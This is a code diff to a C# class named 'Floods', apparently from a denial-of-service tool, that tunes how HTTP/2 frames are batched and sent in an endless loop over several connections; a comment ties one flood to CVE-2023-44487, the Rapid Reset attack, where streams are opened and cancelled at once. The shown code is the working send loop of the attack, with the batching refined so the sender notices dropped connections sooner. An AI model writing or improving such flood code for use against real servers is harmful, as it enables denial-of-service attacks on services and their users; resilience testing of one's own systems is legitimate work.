@@ -11,8 +11,8 @@ internal static class Floods
 {
     private const int Connections = 2;
 
-    /// <summary>Frames that go out together.</summary>
-    private const int Together = 200;
+    /// <summary>How many frames go out together: so few that their sender has not made megabytes of them before it notices that the server has ended the connection.</summary>
+    private const int TogetherMax = 200, BytesTogether = 64 << 10;
 
     /// <summary>CVE-2023-44487: calls that are given up as soon as they are made never count as open.</summary>
     public static Task ResetAsync(Attack attack) => SendAsync(attack, static number =>
@@ -130,10 +130,14 @@ internal static class Floods
     /// <summary>Sends frames, by their number, over and over.</summary>
     private static Task SendAsync(Attack attack, Func<int, byte[]> frame) => attack.OverAsync(Connections, async connection =>
     {
-        for (int sent = 0; ; sent += Together)
+        using var together = new MemoryStream();
+        for (int number = 0; ; together.SetLength(0))
         {
-            await connection.SendAsync(Enumerable.Range(sent, Together).SelectMany(frame).ToArray());
-            attack.Count(Together);
+            int sent = number;
+            while (number - sent < TogetherMax && together.Length < BytesTogether)
+                together.Write(frame(number++));
+            await connection.SendAsync(together.ToArray());
+            attack.Count(number - sent);
         }
     });
 
